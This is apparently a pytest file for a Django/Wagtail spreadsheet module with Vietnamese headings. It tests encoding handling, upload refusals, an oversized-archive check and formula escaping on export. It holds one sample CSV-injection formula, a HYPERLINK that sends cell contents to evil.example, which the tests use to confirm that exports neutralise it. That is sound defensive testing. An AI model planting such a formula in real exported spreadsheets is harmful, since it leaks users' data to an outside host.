"""The core's spreadsheet path on its own: what it reads from the files Excel really writes,
what it refuses, and what its exports look like to a spreadsheet program."""

import csv
import datetime
import io
import unicodedata
import zipfile

import pytest
from django.test import override_settings
from django.utils import translation
from openpyxl import Workbook, load_workbook

from wagtail_emulation.spreadsheets.reading import Column, SpreadsheetRefused, read_sheet
from wagtail_emulation.spreadsheets.writing import (
    csv_bytes,
    escape_formula,
    spreadsheet_response,
    xlsx_bytes,
)

COLUMNS = [
    Column("unit", "Đơn vị", required=True),
    Column("award", "Danh hiệu", required=True),
    Column("count", "Số lượng"),
]


@pytest.fixture(autouse=True)
def vietnamese():
    with translation.override("vi"):
        yield


def upload(data, name="dang-ky.csv"):
    file = io.BytesIO(data)
    file.name = name
    file.size = len(data)
    return file


def cp1258(text):
    """Text as Excel's "CSV" on Vietnamese Windows writes it: code page 1258, where a letter
    with a tone is a precomposed letter (ê, ơ, ă…) followed by a combining tone mark."""
    out = b""
    for letter in unicodedata.normalize("NFC", text):
        base, *marks = unicodedata.normalize("NFD", letter)
        candidates = [(letter, "")] + [
            (unicodedata.normalize("NFC", base + "".join(m for m in marks if m != tone)), tone)
            for tone in marks
        ]
        for precomposed, tone in candidates:
            try:
                out += precomposed.encode("cp1258") + tone.encode("cp1258")
                break
            except UnicodeEncodeError:
                continue
        else:
            raise AssertionError(f"{letter!r} has no code page 1258 form")
    return out


TEXT = "Đơn vị,Danh hiệu,Số lượng\nPhòng Lý lịch tư pháp,Chiến sĩ thi đua cơ sở,2\n"


@pytest.mark.parametrize(
    "data",
    [
        TEXT.encode(),
        "\ufeff".encode() + TEXT.encode(),
        TEXT.encode("utf-16"),
        cp1258(TEXT),
        cp1258(TEXT.replace(",", ";")),  # Excel where the decimal mark is a comma
        TEXT.replace(",", "\t").encode("utf-16"),  # Excel's "Unicode text"
    ],
    ids=["utf-8", "utf-8 bom", "utf-16", "cp1258", "cp1258 semicolons", "unicode text"],
)
def test_every_csv_excel_writes_reads_the_same(data):
    sheet = read_sheet(upload(data), COLUMNS)
    assert sheet.dict == [
        {"unit": "Phòng Lý lịch tư pháp", "award": "Chiến sĩ thi đua cơ sở", "count": "2"}
    ]


def test_headings_match_without_accents_case_or_marks_and_lines_are_kept():
    text = "DON VI*,danh hieu:,Ghi chú\nA,B,x\n,,\n\nC,D,y\n"
    sheet = read_sheet(upload(text.encode()), COLUMNS)
    assert [row[:2] for row in sheet] == [("A", "B"), ("C", "D")]
    assert [sheet.line_of(0), sheet.line_of(1)] == [2, 5]


def test_an_xlsx_with_dates_and_numbers_keeps_their_types():
    book = Workbook()
    book.active.append(["Đơn vị", "Danh hiệu", "Số lượng"])
    book.active.append(["Văn phòng", datetime.datetime(2025, 3, 20), 3])
    out = io.BytesIO()
    book.save(out)
    sheet = read_sheet(upload(out.getvalue(), "a.xlsx"), COLUMNS)
    assert sheet.dict == [
        {"unit": "Văn phòng", "award": datetime.datetime(2025, 3, 20), "count": 3}
    ]


def refusal(data, name="a.csv", **caps):
    with pytest.raises(SpreadsheetRefused) as refused:
        read_sheet(upload(data, name), COLUMNS, **caps)
    return str(refused.value)


def test_what_is_refused_and_how_it_is_said():
    assert refusal(b"") == "Tệp trống."
    assert refusal(b"x", "a.xls").startswith("Hãy lưu bảng tính thành sổ tính Excel")
    assert refusal(b"x", "a.pdf") == "Hãy tải lên tệp .xlsx hoặc .csv."
    assert refusal(b"\x00\x01\x02", "a.csv") == "Tệp không phải là tệp văn bản CSV."
    assert refusal(TEXT.encode(), "a.xlsx").startswith("Tệp không phải là sổ tính Excel (.xlsx)")
    assert refusal(b"Don vi\nA\n") == "Dòng đầu tiên phải ghi tên các cột; còn thiếu: “Danh hiệu”."
    assert refusal(b"Don vi,Danh hieu\n\n") == "Bảng tính không có dòng nào dưới dòng tiêu đề."
    many = ("Don vi,Danh hieu\n" + "A,B\n" * 11).encode()
    assert refusal(many, max_rows=10) == (
        "Bảng tính có hơn 10 dòng; hãy chia nhỏ và nhập lần lượt từng phần."
    )
    assert refusal(many, max_bytes=20).startswith("Tệp lớn hơn 20")


@override_settings(WAGTAIL_EMULATION_SPREADSHEET_MAX_UNPACKED_BYTES=10_000)
def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_parsed():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", " " * 1_000_000)
    assert refusal(out.getvalue(), "a.xlsx").startswith("Sổ tính giải nén ra hơn")


PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'


def test_formula_cells_are_escaped_in_csv_and_text_in_xlsx():
    cells = [PAYLOAD, "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\uff1d1+1", "an toàn", 5, -5, None]
    assert [escape_formula(cell) for cell in cells[:7]] == ["'" + cell for cell in cells[:7]]
    data = csv_bytes(["Ô"], [[cell] for cell in cells])
    assert data.startswith("\ufeff".encode())
    read = [row[0] for row in csv.reader(io.StringIO(data.decode("utf-8-sig")))]
    assert read[1:] == ["'" + c for c in cells[:7]] + ["an toàn", "5", "-5", ""]

    sheet = load_workbook(io.BytesIO(xlsx_bytes(["Ô"], [[cell] for cell in cells]))).active
    values = [sheet.cell(row, 1) for row in range(2, 2 + len(cells))]
    assert values[0].value == PAYLOAD and values[0].data_type == "s"
    assert values[8].value == 5 and values[8].data_type == "n"


def test_xlsx_drops_characters_xml_cannot_hold():
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["a"], [["x\x00\x0by"]]))).active
    assert sheet.cell(2, 1).value == "xy"


def test_a_download_is_named_and_typed():
    response = spreadsheet_response("csv", ["Số"], [["1"]], filename="van-ban")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="van-ban.csv"'
    response = spreadsheet_response("xlsx", ["Số"], [["1"]], filename="van-ban")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
